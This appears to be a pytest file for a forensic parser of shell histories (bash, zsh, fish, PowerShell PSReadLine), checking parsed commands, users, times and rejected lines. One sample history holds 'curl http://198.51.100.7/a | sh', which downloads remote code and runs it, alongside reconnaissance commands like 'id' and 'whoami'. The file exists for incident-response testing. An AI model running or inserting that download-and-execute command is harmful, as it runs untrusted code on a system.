"""Shell histories: commands with and without times, over several lines, of several shells."""

from __future__ import annotations

import pytest

from tocsin.collecting.format import Certainty, Source
from tocsin.collecting.formats.shell_history import FORMAT, recognise

from tests.collecting.artefact_files import START
from tests.collecting.reading import events_and_rejections
from tests.collecting.samples_artefacts import SHELL_HISTORY

ZSH = b": 1614668400:3;make \\\n all\n: 1614668403:0;id\n"
FISH = b"- cmd: curl http://198.51.100.7/\n  when: 1614668400\n  paths:\n    - x\n- cmd: id\n  when: 1614668403\n"


def test_bash_with_times() -> None:
    (first, second), rejected = events_and_rejections(FORMAT, SHELL_HISTORY, Source("web1/home/alice/.bash_history"))
    assert rejected == []
    assert (first["CommandLine"], first["User"], first["_time"]) == ("curl http://198.51.100.7/a | sh", "alice", START)
    assert (second["CommandLine"], second["lines"]) == ("for i in 1 2\ndo echo $i\ndone", 4)


@pytest.mark.parametrize(
    ("data", "shell", "command", "lines"),
    [(ZSH, "zsh", "make \\\n all", 2), (FISH, "fish", "curl http://198.51.100.7/", 4)],
)
def test_zsh_and_fish(data: bytes, shell: str, command: str, lines: int) -> None:
    (first, second), rejected = events_and_rejections(FORMAT, data)
    assert rejected == []
    assert (first["Shell"], first["CommandLine"], first["lines"], first["_time"]) == (shell, command, lines, START)
    assert second["CommandLine"] == "id"
    assert recognise(data, "x") is Certainty.SURE


def test_without_times_the_name_tells() -> None:
    path = "C/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    events, _ = events_and_rejections(FORMAT, b"whoami\r\nGet-Item `\r\n  x\r\n", Source(path))
    assert [event["CommandLine"] for event in events] == ["whoami", "Get-Item `\n  x"]
    assert {(event["Shell"], event["User"], event.get("_time")) for event in events} == {("PSReadLine", "alice", None)}
    assert recognise(b"ls\ncd /tmp\n", "root/.bash_history") is Certainty.LIKELY
    assert recognise(b"ls\ncd /tmp\n", "notes.txt") is Certainty.NO


def test_a_time_without_a_command_is_rejected() -> None:
    (event,), (lost,) = events_and_rejections(FORMAT, b"#1614668400\n#1614668401\nid\n")
    assert (event["CommandLine"], lost.reason) == ("id", "line 1: a time without a command")
